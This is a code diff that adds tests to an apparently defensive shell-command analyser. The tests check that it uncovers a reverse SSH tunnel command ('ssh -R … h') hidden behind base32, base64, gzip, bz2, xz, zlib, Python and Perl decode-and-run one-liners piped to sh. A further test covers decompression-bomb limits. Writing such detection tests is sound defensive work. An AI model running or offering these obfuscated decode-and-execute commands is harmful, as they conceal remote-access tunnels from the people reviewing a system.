@@ -668,3 +668,42 @@ def test_a_container_run_runs_its_command(text, line):
 ])
 def test_a_container_run_with_no_command_of_its_own_runs_nothing_readable(text):
     assert len(reader.read(text)) == 1
+
+
+def _encodings():
+    import base64
+    import bz2
+    import gzip
+    import lzma
+    import zlib
+    cmd = b"ssh -R 1:l:22 h"
+    b64 = lambda data: base64.b64encode(data).decode()  # noqa: E731
+    return [
+        f"echo {base64.b32encode(cmd).decode()} | base32 -d | sh",
+        f"echo {base64.b32encode(cmd).decode()} | basenc --base32 -d | sh",
+        f"echo {b64(cmd)} | basenc --base64 --decode | sh",
+        f"echo {b64(gzip.compress(cmd))} | base64 -d | gunzip | sh",
+        f"echo {b64(gzip.compress(cmd))} | base64 -d | gzip -dc | bash",
+        f"echo {b64(bz2.compress(cmd))} | base64 -d | bunzip2 | sh",
+        f"echo {b64(lzma.compress(cmd))} | base64 -d | xz -d | sh",
+        f"python3 -c \"import base64,os; os.system(base64.b32decode('{base64.b32encode(cmd).decode()}'))\"",
+        f"python3 -c \"import zlib,base64,os; os.system(zlib.decompress(base64.b64decode('{b64(zlib.compress(cmd))}')))\"",
+        f"perl -e 'system(pack(\"H*\",\"{cmd.hex()}\"))'",
+    ]
+
+
+@pytest.mark.parametrize("text", _encodings())
+def test_more_encodings_are_decoded(text):
+    ssh = find(text, "ssh")
+    assert ssh.args == ["-R", "1:l:22", "h"]
+
+
+def test_decompression_is_bounded_and_gives_up_on_text():
+    import base64
+    import gzip
+
+    from vigiles.analysis.decode import MAX_DECODED, b64decode, decompress
+    bomb = b64decode(base64.b64encode(gzip.compress(b"a" * (8 * MAX_DECODED))).decode())
+    assert len(decompress("gzip", bomb)) == MAX_DECODED  # cut, never expanded whole
+    assert decompress("gzip", "ssh \u2603") is None      # text beyond one byte a character: no bytes
+    assert decompress("xz", "not xz") is None
